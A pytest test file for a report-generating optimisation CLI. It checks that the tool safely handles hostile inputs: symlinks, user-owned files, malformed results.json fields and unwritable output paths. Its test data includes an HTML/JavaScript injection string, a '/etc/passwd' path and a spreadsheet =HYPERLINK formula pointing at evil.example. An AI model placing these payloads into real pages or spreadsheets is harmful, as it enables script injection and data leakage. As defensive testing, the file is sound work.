"""``gtvcvx report`` / ``render`` / ``check`` / ``solve`` outputs against hostile inputs.

An output directory holding the user's files, symbolic links inside a report directory, a
hand-edited ``results.json``, spec names and paths made to inject HTML or spreadsheet formulas,
output paths that cannot be written, and non-finite numbers in ``solve --json``.
"""

import csv
import json
import re
import shutil
import warnings
from pathlib import Path

import pytest

from gtvcvx.cli import main

QUICK_SPEC = Path(__file__).resolve().parents[1] / "problems" / "quick" / "chain_l1.toml"
HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>[js](javascript:alert(2))'


def _spec(folder: Path, name: str = "quick_chain_l1", filename: str = "spec.toml") -> Path:
    """A copy of the quick chain spec (a fraction of a second to solve) named ``name``."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / filename
    path.write_text(QUICK_SPEC.read_text().replace('name = "quick_chain_l1"', f"name = {json.dumps(name)}"))
    return path


def _report(spec, out, *extra) -> int:
    return main(["report", str(spec), "--out", str(out), "--solvers", "fast", "--quiet", *extra])


def _outside_code_spans(markdown: str) -> str:
    """The Markdown text that is not inside a (single-backtick) code span."""
    return re.sub(r"`[^`\n]*`", "", markdown)


def _assert_inert(path: Path) -> None:
    text = _outside_code_spans(path.read_text())
    for live in ("<script", "<img", "](javascript"):
        assert live not in text, (path, live)


@pytest.fixture(scope="module")
def base_report(tmp_path_factory):
    """A small report (md, json, csv) to copy and edit."""
    root = tmp_path_factory.mktemp("base")
    out = root / "rep"
    assert _report(_spec(root / "specs"), out, "--format", "md,json,csv") == 0
    return out


def _edited_copy(base: Path, tmp_path: Path, edit) -> Path:
    out = tmp_path / "rep"
    shutil.copytree(base, out)
    path = out / "specs" / "results.json"
    doc = json.loads(path.read_text())
    edit(doc)
    path.write_text(json.dumps(doc))
    return out


# --------------------------------------------------------------------------- 1. files the report did not write
def test_report_refuses_an_out_directory_holding_its_input_specs(tmp_path, monkeypatch, capsys):
    spec = _spec(tmp_path / "specs", filename="mine.toml")
    (tmp_path / "specs" / "NOTES.txt").write_text("my notes")
    monkeypatch.chdir(tmp_path)
    assert _report("specs", ".") == 2
    err = capsys.readouterr().err
    assert "--out ." in err and "input spec" in err and len(err.strip().splitlines()) == 1
    assert spec.is_file() and (tmp_path / "specs" / "NOTES.txt").read_text() == "my notes"
    assert not (tmp_path / "index.md").exists()


def test_report_replaces_only_entries_a_previous_report_wrote(tmp_path, capsys):
    spec = _spec(tmp_path / "in")
    out = tmp_path / "out"
    (out / "specs").mkdir(parents=True)
    (out / "specs" / "mine.txt").write_text("mine")
    assert _report(spec, out) == 2
    err = capsys.readouterr().err
    assert "specs exists and was not written by gtvcvx report" in err and "--out" in err
    assert (out / "specs" / "mine.txt").read_text() == "mine"

    other = tmp_path / "other"
    other.mkdir()
    (other / "index.md").write_text("my page")
    assert _report(spec, other, "--format", "csv") == 2  # the index pages belong to the report
    assert (other / "index.md").read_text() == "my page" and not (other / "specs").exists()

    fresh = tmp_path / "fresh"
    assert _report(spec, fresh) == 0
    (fresh / "notes.md").write_text("not the report's")
    assert _report(spec, fresh) == 0  # a rerun replaces its own previous report
    assert (fresh / "notes.md").read_text() == "not the report's" and (fresh / "index.md").is_file()


# --------------------------------------------------------------------------- 2. symbolic links
def test_render_refuses_a_symlinked_folder_and_writes_nothing_through_it(base_report, tmp_path, capsys):
    out = tmp_path / "rep"
    shutil.copytree(base_report, out)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "report.md").write_text("victim's own file")
    shutil.rmtree(out / "specs" / "quick_chain_l1")
    (out / "specs" / "quick_chain_l1").symlink_to(victim)
    assert main(["render", str(out)]) == 2
    err = capsys.readouterr().err
    assert "quick_chain_l1: is a symbolic link" in err and len(err.strip().splitlines()) == 1
    assert (victim / "report.md").read_text() == "victim's own file"


# --------------------------------------------------------------------------- 3. raw HTML in the Markdown pages
def test_a_backtick_in_a_spec_path_cannot_close_the_command_line_code_span(tmp_path):
    folder = tmp_path / "x` <img src=x onerror=alert(1)> [l](javascript:alert(2)) `"
    out = tmp_path / "out"
    assert _report(_spec(folder).parent, out, "--format", "md") == 0
    generated = next(line for line in (out / "index.md").read_text().splitlines() if line.startswith("Generated by"))
    assert generated.count("`") == 2 and "--out" in generated.split("`")[1]  # one span, the whole command
    _assert_inert(out / "index.md")


def test_render_makes_every_field_of_a_hand_edited_results_file_inert(base_report, tmp_path):
    def edit(doc):
        record = doc["specs"][0]
        record.update(path="a` " + HOSTILE, error=HOSTILE, notes=[HOSTILE], kind="gtv` " + HOSTILE,
                      reference="fast` " + HOSTILE, seed=HOSTILE, sizes={HOSTILE: HOSTILE},
                      measured={HOSTILE: 1.0}, files=["specs/a" + HOSTILE.replace("/", "_") + ".csv"],
                      experiment_markdown="## T " + HOSTILE + "\n\n" + HOSTILE + "\n")
        record["rows"][0].update(solver="fast` " + HOSTILE, message=HOSTILE, status=HOSTILE)
        doc.update(command="gtvcvx ` " + HOSTILE, selection_rule=HOSTILE, memory="rss` " + HOSTILE,
                   environment={HOSTILE: HOSTILE})

    out = _edited_copy(base_report, tmp_path, edit)
    assert main(["render", str(out), "--format", "md,html"]) == 0
    for page in (out / "index.md", out / "specs" / "quick_chain_l1" / "report.md"):
        _assert_inert(page)
    html_text = (out / "index.html").read_text()
    assert "<script" not in html_text and "<img src=x" not in html_text and 'href="javascript' not in html_text


# --------------------------------------------------------------------------- 4. malformed results files
@pytest.mark.parametrize("where, key, value, named", [
    ("spec", "figures", 5, "specs[0].figures: expected a list of paths"),
    ("spec", "figures", [5], "specs[0].figures: expected a list of paths"),
    ("spec", "figures", ["/etc/passwd"], "specs[0].figures[0] = '/etc/passwd'"),
    ("spec", "files", 7, "specs[0].files: expected a list of paths"),
    ("spec", "notes", 3, "specs[0].notes: expected a list of strings"),
    ("spec", "columns", ["solver"], "specs[0].columns: expected the columns 'solver' and 'status'"),
    ("spec", "experiment_markdown", 5, "specs[0].experiment_markdown: expected a string"),
    ("spec", "sizes", "ab", "specs[0].sizes: expected an object"),
    ("spec", "seconds", "abc", "specs[0].seconds: expected a number"),
    ("spec", "slug", "a" * 300, "specs[0].slug: expected a folder name of at most 255 characters"),
    ("top", "environment", [1, 2], "results.json: environment: expected an object"),
], ids=["figures_int", "figures_ints", "figures_outside", "files_int", "notes_int", "columns_short", "markdown_int",
        "sizes_text", "seconds_text", "slug_long", "environment_list"])
def test_render_names_the_file_and_field_of_a_malformed_results_file(base_report, tmp_path, capsys, where, key,
                                                                      value, named):
    def edit(doc):
        (doc["specs"][0] if where == "spec" else doc)[key] = value

    out = _edited_copy(base_report, tmp_path, edit)
    assert main(["render", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"{out / 'specs' / 'results.json'}:" in err and named in err and len(err.strip().splitlines()) == 1


# --------------------------------------------------------------------------- 5. long names
def test_long_spec_names_get_short_unique_folders(tmp_path):
    folder = tmp_path / "specs"
    _spec(folder, "a" * 300 + "1", "one.toml")
    _spec(folder, "a" * 300 + "2", "two.toml")
    out = tmp_path / "out"
    assert _report(folder, out, "--format", "md,json") == 0
    folders = sorted(p.name for p in (out / "specs").iterdir() if p.is_dir())
    assert len(folders) == 2 and all(len(name) <= 90 for name in folders)
    assert all((out / "specs" / name / "report.md").is_file() for name in folders)


# --------------------------------------------------------------------------- 6. CSV
def test_summary_csv_holds_plain_text_that_cannot_run_as_a_formula(tmp_path):
    folder = tmp_path / "specs"
    formula = '=HYPERLINK("http://evil.example/?x","click")'
    _spec(folder, formula, "f.toml")
    _spec(folder, "a <b> & [c]", "g.toml")
    out = tmp_path / "out"
    assert _report(folder, out, "--format", "csv,html") == 0
    with open(out / "specs" / "summary.csv", newline="") as fh:
        names = {row["spec"] for row in csv.DictReader(fh)}
    assert names == {"'" + formula, "a <b> & [c]"}
    html_text = (out / "index.html").read_text()
    assert "a &lt;b&gt; &amp;" in html_text and "&amp;lt;" not in html_text


# --------------------------------------------------------------------------- 7. output paths
@pytest.mark.parametrize("command, shown", [
    (["check", "{spec}", "--junit", "adir"], "--junit adir: is a directory, expected a file path"),
    (["check", "{spec}", "--junit", "afile/x.xml"], "--junit afile/x.xml: afile exists and is not a directory"),
    (["report", "{spec}", "--out", "afile", "--solvers", "fast"], "--out afile: exists and is not a directory"),
    (["solve", "{spec}", "--save", "afile/r.npz"], "--save afile/r.npz: afile exists and is not a directory"),
], ids=["junit_directory", "junit_under_a_file", "out_a_file", "save_under_a_file"])
def test_unwritable_output_paths_are_refused_before_solving(tmp_path, monkeypatch, capsys, command, shown):
    spec = _spec(tmp_path / "in")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "adir").mkdir()
    (tmp_path / "afile").write_text("")
    assert main([part.format(spec=spec) for part in command]) == 2
    captured = capsys.readouterr()
    assert shown in captured.err and ".tmp" not in captured.err and len(captured.err.strip().splitlines()) == 1
    assert "PASS" not in captured.out and "objective" not in captured.out  # nothing was solved


# --------------------------------------------------------------------------- 8. solve --json
def test_solve_json_is_valid_json_with_non_finite_numbers(tmp_path, capsys):
    spec = tmp_path / "huge.toml"
    spec.write_text('name = "blobs_phi_huge"\nseed = 1\n[graph]\ngenerator = "knn"\nk = 3\nphi = 1e300\n'
                    '[data]\ngenerator = "blobs"\nsizes = [5, 5]\nseparation = 1e200\n'
                    '[problem]\nloss = "squared_distance"\npenalty = "norm2"\nlam = 0.1\n')
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)  # numpy's overflow, the point of this spec
        main(["solve", str(spec), "--json"])

    def refuse(constant):
        raise ValueError(f"not JSON: {constant}")

    doc = json.loads(capsys.readouterr().out, parse_constant=refuse)
    assert doc["primal"] == "inf" and doc["dual"] == "-inf"


def test_an_experiment_page_from_a_hand_edited_study_record_is_inert_and_keeps_its_figures(tmp_path):
    """``gtvcvx render`` writes ``experiment.md`` again from the study record in the report folder, which
    may be edited as results.json can; its text reached the page as it stood."""
    out = tmp_path / "rep"
    spec = Path(__file__).resolve().parents[1] / "problems" / "paper" / "study_7_star.toml"
    assert main(["report", str(spec), "--out", str(out), "--quick", "--quiet", "--format", "md"]) == 0
    record = next(r for r in json.loads((out / "specs" / "results.json").read_text())["specs"]
                  if r.get("experiment_record"))
    path = out / record["experiment_record"]
    study = json.loads(path.read_text())
    study["title"] = "T " + HOSTILE + " 0 < eps < 1"
    path.write_text(json.dumps(study))
    assert main(["render", str(out), "--format", "md"]) == 0
    page = out / "specs" / record["slug"] / "experiment.md"
    _assert_inert(page)
    text = page.read_text()
    assert text.startswith("## T ") and "0 < eps < 1" in text and "![" in text  # (the star study's figures)
